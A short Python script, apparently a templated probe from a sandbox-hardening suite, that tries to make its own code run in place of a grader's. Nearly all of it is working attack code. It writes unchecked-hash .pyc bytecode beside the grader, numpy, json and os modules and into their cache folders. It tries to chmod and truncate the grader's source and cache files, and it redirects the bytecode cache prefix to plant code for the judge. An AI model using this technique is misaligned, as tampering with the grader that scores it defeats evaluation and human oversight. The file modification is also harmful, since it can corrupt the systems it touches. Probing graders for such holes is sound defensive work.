"""Writes compiled modules that run in place of the grader's: next to its sources, with an unchecked hash, and by
renaming.
"""

SOURCE = "PEP 552 lets bytecode be trusted without its source"
SUCCESS = "a file beside the modules of the grader or of Python"

# %%
import importlib.util
import json
import marshal
import os
import sys

import numpy

import grader
import grader.judging.judge

code = compile("open('/tmp/@TOKEN@-@NAME@', 'w').write('hello')", "@NAME@", "exec")
bytecode = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8) + marshal.dumps(code)
for module in (grader, grader.judging.judge, numpy, json, os):
    cache = os.path.dirname(importlib.util.cache_from_source(module.__file__))
    for folder in (cache, os.path.dirname(module.__file__)):
        path = os.path.join(folder, "@TOKEN@-@NAME@.pyc")
        try:
            os.makedirs(folder, exist_ok=True)
            open(path, "wb").write(bytecode)
            print("SUCCEEDED: wrote", path)
        except OSError as error:
            print(error)
    for path in (importlib.util.cache_from_source(module.__file__), module.__file__):
        for way in (
            lambda: open(path, "r+b"),
            lambda: os.chmod(path, 0o666),
            lambda: os.utime(path),
            lambda: os.truncate(path, 10**6),
        ):
            try:
                way()
                print("SUCCEEDED: might change", path)
                break
            except OSError as error:
                print(error)
for prefix in ("/tmp/cache", "/home/student"):
    sys.pycache_prefix = prefix
    path = importlib.util.cache_from_source(grader.judging.judge.__file__)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(bytecode)
print("attempted")
